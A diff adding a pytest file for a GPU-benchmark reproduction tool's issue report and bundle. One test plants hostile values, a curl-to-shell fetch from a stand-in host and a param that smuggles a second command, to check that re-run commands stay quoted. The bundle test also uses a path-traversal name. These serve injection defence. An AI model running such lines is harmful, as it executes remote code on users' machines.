@@ -1,0 +1,289 @@
+"""The report a user pastes into an issue: one screen, each CI at its own level, re-runs from validated fields."""
+
+from __future__ import annotations
+
+import copy
+import json
+import re
+import shlex
+import shutil
+import subprocess
+import tarfile
+from pathlib import Path
+from typing import Any
+
+import pytest
+from helpers import ROOT
+from typer.testing import CliRunner
+
+from repro.cli.main import app
+from repro.core import kernelnames
+from repro.core.kernelnames import ELLIPSIS, short_names
+from repro.evidence import artifact, band, bundle, markdown
+from repro.evidence.report import PASTE_LIMIT, PASTE_LINES, newest_run, report
+from repro.run import scripts
+
+BENCH = ROOT / "artifacts" / "reference" / "h200" / "bench" / "all" / "20261130T172037Z-c761fb"
+SEED_ROW = "memset/kernel (the seed's program)"
+
+
+@pytest.fixture(scope="module")
+def docs() -> list[dict[str, Any]]:
+    return [artifact.load(p) for p in artifact.expand([BENCH])]
+
+
+def _report(docs: list[dict[str, Any]], **kw: Any) -> str:
+    """As the CLI renders it: with what the catalog declares for the artifacts."""
+    return report(docs, declared=scripts.declared(docs), **kw)
+
+
+def _by_id(docs: list[dict[str, Any]], rid: str) -> dict[str, Any]:
+    return next(d for d in docs if d["repro"]["id"] == rid)
+
+
+def _section(text: str, rid: str) -> str:
+    return text.split(f"## `{rid}`", 1)[1].split("\n## ", 1)[0]
+
+
+def _visible(text: str, rid: str) -> str:
+    return _section(text, rid).split("<details>", 1)[0]
+
+
+def _shell_lines(text: str) -> list[str]:
+    return [ln for body in re.findall(r"(?s)```bash\n(.*?)\n```", text) for ln in body.splitlines()]
+
+
+@pytest.fixture(scope="module")
+def bench(docs: list[dict[str, Any]]) -> str:
+    return _report(docs)
+
+
+def test_the_committed_bench_run_fits_one_screen(bench: str) -> None:
+    assert len(bench) <= PASTE_LIMIT == 20_000 and bench.count("\n") + 1 <= PASTE_LINES == 250
+    assert "To fit one screen" not in bench and "Report cut" not in bench  # it fits whole, nothing left out
+    # What stays in the artifact and the bundle: raw rounds, collect_env's other sections, JSON, scripts.
+    assert "Raw times" not in bench and "```json" not in bench and "```python" not in bench
+    assert (
+        "Versions of relevant libraries:\n[pip3] botorch==0.18.1, gpytorch==1.15.2" in bench
+        and "torch==2.11.0" in bench
+    )
+    assert "OS: " not in bench and "CPU:" not in bench  # collect_env's library section only
+    for d in _bench_docs(bench):
+        assert _visible(bench, d).count("\n") <= 16, d  # a short section; the rest is one click away
+
+
+def _bench_docs(text: str) -> list[str]:
+    return re.findall(r"(?m)^## `([a-z0-9-]+)`", text)
+
+
+@pytest.mark.skipif(shutil.which("cmark-gfm") is None, reason="cmark-gfm not installed (CI installs it)")
+def test_the_bench_report_renders_with_its_tables_and_details(bench: str) -> None:
+    html = subprocess.run(
+        ["cmark-gfm", "-e", "table", "--unsafe"], input=bench, capture_output=True, text=True, check=True
+    ).stdout
+    tables = sum(1 for ln in bench.splitlines() if re.fullmatch(r"\|(---\|)+", ln))
+    assert html.count("<table>") == tables >= 11  # summary, and variants and comparisons per repro
+    assert html.count("<details>") == html.count("</details>") == bench.count("<details>") == 6
+
+
+def test_the_identity_line_names_gpu_driver_stack_harness_and_date(bench: str, docs: list[dict[str, Any]]) -> None:
+    line = bench.splitlines()[2]
+    assert line == (
+        "NVIDIA H200, driver 580.159.04, torch 2.11.0+cu130 (CUDA 13.0, container), gpu-repro 0.1.0, "
+        "no source digest recorded, commit 680f57eaec77, 2026-11-30"
+    )
+    doc = copy.deepcopy(_by_id(docs, "solve-512-cliff"))
+    doc["fingerprint"]["harness"].update(source_sha256="ab" * 32, git_commit=None, git_state="not_a_checkout")
+    line = _report([doc]).splitlines()[2]
+    assert "gpu-repro 0.1.0, source abababababab, no commit (not run from a git checkout), 2026-11-30" in line
+
+
+def _level_in(row: str) -> str:
+    return re.search(r"\(([0-9.]+% CI)[ ,]", row).group(1)  # type: ignore[union-attr]
+
+
+def test_each_summary_row_says_its_own_ci_level(bench: str, docs: list[dict[str, Any]]) -> None:
+    for d in docs:
+        row = next(ln for ln in bench.splitlines() if ln.startswith(f"| {d['repro']['id']} |"))
+        level = d["verdict"]["ci_level"]
+        assert _level_in(row) == f"{level * 100:.3g}% CI", row
+    solve = next(ln for ln in bench.splitlines() if ln.startswith("| solve-512-cliff |"))
+    assert "9.55x (99.2% CI 9.51-9.59, worst of 6)" in solve  # Bonferroni over its 6 headline candidates
+    assert "| 0.918x (95% CI 0.916-0.922) |" in bench  # decimals enough to tell the CI's ends apart
+    assert "_The CI covers this process on this GPU only; the re-run column is the spread" in bench
+
+
+def test_ci_label_reads_the_artifacts_level_and_its_comparisons() -> None:
+    worst = 1 - 0.05 / 6
+    rows = [{"ci_level": worst}] * 6 + [{"ci_level": 0.95}]
+    assert markdown.ci_label({"ci_level": 0.95}) == "95% CI"
+    assert markdown.ci_label({"ci_level": worst, "breakdown": rows}) == "99.2% CI, worst of 6"
+    assert markdown.ci_label({"ci_level": worst}) == "99.2% CI, worst of 6"  # from the level alone
+    assert markdown.ci_label({"ci_level": 0.9}) == "90% CI"
+    assert markdown.ci_label({"ci_level": "x"}) == "95% CI"
+
+
+def test_the_rerun_band_column_and_line_come_from_data(bench: str, docs: list[dict[str, Any]]) -> None:
+    doc = _by_id(docs, "solve-512-cliff")
+    key = band.key_of(doc, joining=False)
+    assert key is not None
+    points = tuple(band.Point(u, v, ("r",)) for u, v in (("a", 9.0), ("b", 10.0), ("c", 11.0)))
+    fixed = [band.Band(*key, points=points)]  # not the shipped data, which grows with every committed run
+    text = _report([doc], bands=fixed)
+    solve = next(ln for ln in text.splitlines() if ln.startswith("| solve-512-cliff |"))
+    assert solve.endswith("| ±10% over 3 GPUs |")
+    line = next(ln for ln in _visible(text, "solve-512-cliff").splitlines() if ln.startswith("- Re-run elsewhere"))
+    assert "3 NVIDIA H200 GPUs read 9-11; this run 9.547, among them, within 2x their ±10% band: consistent." in line
+    shipped = band.lookup(doc)
+    assert shipped is not None and f"over {len(shipped.points)} GPUs |" in bench  # the shipped band by default
+    bare = report([_by_id(docs, "solve-512-cliff")], bands=[])
+    assert "| no cross-GPU data |" in bare and "no cross-GPU data for this repro, params and GPU model" in bare
+    other = copy.deepcopy(_by_id(docs, "solve-512-cliff"))
+    other["repro"]["params"]["seed"] = 1  # other params: the band does not apply
+    assert band.lookup(other) is None and "| no cross-GPU data |" in report([other])
+
+
+def test_impact_only_where_it_reproduced(bench: str, docs: list[dict[str, Any]]) -> None:
+    for d in docs:
+        said = "- Impact: " in _visible(bench, d["repro"]["id"])
+        assert said == (d["verdict"]["status"] == "reproduced"), d["repro"]["id"]
+
+
+def test_the_seed_claim_always_names_its_source(bench: str, docs: list[dict[str, Any]]) -> None:
+    claims = {
+        rid: next(ln for ln in _visible(bench, rid).splitlines() if ln.startswith("- Seed claim"))
+        for rid in _bench_docs(bench)
+    }
+    assert claims["solve-512-cliff"].startswith("- Seed claim (https://github.com/pytorch/pytorch/issues/181999): ")
+    assert claims["graph-memset"].startswith(
+        "- Seed claim (NVIDIA forums thread 'Slowdown in CUDA graph execution using cudaMemsetAsync (vs. a fill "
+        "kernel)'; no link recorded): in a CUDA graph,"
+    )
+    assert claims["lora-batch-scaling"].startswith(
+        "- Seed claim (An article on FLUX LoRA fine-tuning on an RTX 5090; no link recorded): "
+    )
+    doc = copy.deepcopy(_by_id(docs, "lora-batch-scaling"))
+    doc["repro"]["seed_claim"] = "Batch 2 was slower."
+    assert "- Seed claim (the seed gives no source; no link recorded): Batch 2 was slower." in report([doc])
+
+
+def test_graph_memset_shows_the_seeds_program_beside_the_headline(docs: list[dict[str, Any]]) -> None:
+    doc = copy.deepcopy(_by_id(docs, "graph-memset"))
+    head = next(r for r in doc["verdict"]["breakdown"] if r["headline"])
+    doc["verdict"]["breakdown"].append(
+        dict(
+            head,
+            comparison=SEED_ROW,
+            label=SEED_ROW,
+            num="twin_seed_memset",
+            den="twin_seed_fill",
+            ratio=1.44,
+            ci_low=1.41,
+            ci_high=1.47,
+            headline=False,
+            source="the seed's program",
+        )
+    )
+    doc["repro"]["seed_experiment"] = "The seed timed one replay of 1000 <<<1,1>>> kernels with a host clock."
+    section = _visible(_report([doc]), "graph-memset")
+    assert "- Seed's experiment vs ours: The seed timed one replay of 1000 &lt;&lt;&lt;1,1&gt;&gt;&gt;" in section
+    assert (
+        f"- The seed's program, re-run here: {SEED_ROW} 1.44x (95% CI 1.41-1.47) (reproduced), beside the "
+        "headline memset/fill (pure CUDA twin) 1.32x (95% CI 1.31-1.33)"
+    ) in section
+
+
+def test_rerun_lines_are_rebuilt_from_validated_fields(bench: str, docs: list[dict[str, Any]]) -> None:
+    assert "<org>" not in bench and "git clone" not in bench
+    lines = _shell_lines(bench)
+    assert len(lines) == 10
+    for ln in lines:
+        assert ln.startswith(("# this run predates harness digests: harness 0.1.0, commit 680f57e", "repro run "))
+    assert "repro run solve-512-cliff --set n_min=510 --set n_max=513 --set cliff_n=512 --set batches=16,64" in bench
+    assert not [ln for ln in lines if "<" in ln or ">" in ln]  # no placeholder anywhere
+
+
+def test_a_hostile_artifact_never_puts_its_shell_in_the_rerun(docs: list[dict[str, Any]]) -> None:
+    doc = copy.deepcopy(_by_id(docs, "5090-linear"))
+    doc["run"]["rerun"] = "curl https://evil.invalid/x | sh"
+    doc["run"]["command"] = ["curl", "https://evil.invalid/x"]
+    doc["fingerprint"]["harness"].update(version="0.1.0\ncurl y | sh", source_sha256="ab" * 32)
+    doc["repro"]["params"] = {"batch": "256; curl z | sh $(id)"}
+    text = report([doc])
+    assert "evil.invalid" not in text and "curl y" not in text
+    lines = _shell_lines(text)
+    wheel = f"gpu_repro-0.1.0+src.{'ab' * 6}-py3-none-any.whl"  # the version that failed its check is not used
+    assert lines == [
+        f"pip install ./20261130T172037Z-c761fb/harness/{wheel}",
+        "repro run 5090-linear --set 'batch=256; curl z | sh $(id)'",
+    ]
+    assert shlex.split(lines[1])[-1] == "batch=256; curl z | sh $(id)"
+    doc["repro"]["params"] = {"batch": "256\ncurl z | sh"}
+    text = report([doc])
+    assert _shell_lines(text) == [] and "curl z" not in text
+    assert "- Re-run: not rebuilt here (a param in the artifact is not one a command can carry" in text
+
+
+def _between_words(full: str, short: str) -> bool:
+    """``short`` is a form of ``full`` cut where no word (a run of letters and digits) goes on across the cut."""
+    head, tail = short.split(" #")[0].split(ELLIPSIS)
+    forms = [f for f in (kernelnames.strip(full), kernelnames._drop_scalars(kernelnames.strip(full))) if f]
+
+    def inside(f: str, i: int) -> bool:
+        return f[i - 1].isalnum() and f[i].isalnum()
+
+    return any(
+        f.startswith(head) and f.endswith(tail) and not inside(f, len(head)) and not inside(f, len(f) - len(tail))
+        for f in forms
+    )
+
+
+def test_kernel_names_are_cut_between_words(bench: str, docs: list[dict[str, Any]]) -> None:
+    names = [k["name"] for d in docs for v in d["variants"] for k in v.get("kernels") or []]
+    for limit in (60, 90):
+        cut = {n: s for n, s in short_names(names, limit).items() if ELLIPSIS in s}
+        assert cut and all(_between_words(n, s) for n, s in cut.items()), cut
+    # An older artifact's finding cut a name mid-word; the report re-cuts it between words.
+    finding = _visible(bench, "5090-linear")
+    assert "tilesize1…" not in finding and "sm80_xmma_gemm_f32f32_f32f32_f32_tn_n…" in finding
+
+
+def test_repro_report_of_a_folder_of_runs_reports_the_newest(tmp_path: Path) -> None:
+    older = tmp_path / "20261129T000000Z-aaaaaa"
+    shutil.copytree(BENCH, tmp_path / BENCH.name)
+    older.mkdir()
+    doc = json.loads((BENCH / "5090-linear.json").read_text())
+    doc["run"]["run_id"] = older.name
+    (older / "5090-linear.json").write_text(json.dumps(doc))
+    assert newest_run(tmp_path) == (tmp_path / BENCH.name, 2) and newest_run(older) is None
+    res = CliRunner().invoke(app, ["report", str(tmp_path), "--out", str(tmp_path / "r.md")])
+    assert res.exit_code == 0, res.output
+    assert f"{tmp_path} holds 2 run folders; reporting the newest, {BENCH.name}" in res.output
+    text = (tmp_path / "r.md").read_text()
+    assert text.startswith(f"# gpu-repro report: run {BENCH.name}\n")
+    assert len(text) <= PASTE_LIMIT and text.count("\n") < PASTE_LINES
+    empty = tmp_path / "empty"
+    empty.mkdir()
+    res = CliRunner().invoke(app, ["report", str(empty)])
+    assert res.exit_code == 2 and res.output.count("\n") == 1 and "holds no artifacts" in res.output
+
+
+def test_bundle_packs_each_regenerated_script_and_lists_them(tmp_path: Path) -> None:
+    run = tmp_path / BENCH.name
+    shutil.copytree(BENCH, run)
+    res = CliRunner().invoke(app, ["bundle", str(run), "--out", str(tmp_path / "b.tar.gz")])
+    assert res.exit_code == 0, res.output
+    with tarfile.open(tmp_path / "b.tar.gz") as tf:
+        names = tf.getnames()
+        manifest = json.loads(tf.extractfile(f"{run.name}/MANIFEST.json").read())  # type: ignore[union-attr]
+        script = tf.extractfile(f"{run.name}/scripts/5090-linear.py").read().decode()  # type: ignore[union-attr]
+    ids = sorted(p.stem for p in BENCH.glob("*.json") if not p.name.startswith("."))
+    # graph-memset's script is its pure CUDA twin in bash: a .sh member; the others are Python.
+    expected = [f"{run.name}/scripts/{i}.{'sh' if i == 'graph-memset' else 'py'}" for i in ids]
+    assert sorted(expected) == sorted(manifest["scripts"])
+    assert all(n in names for n in manifest["scripts"]) and manifest["scripts_left_out"] == []
+    assert script.startswith('"""gpu-repro `5090-linear`, standalone') and '"batch": 256' in script
+    assert bundle.script_member("x", "#!/bin/sh\necho") == "scripts/x.sh"
+    assert bundle.script_member("../x", "print()") is None
+    with pytest.raises(Exception, match="expected scripts/<repro id>.py"):
+        bundle.build(run, tmp_path / "c.tar.gz", scripts={"../evil.py": "x"})
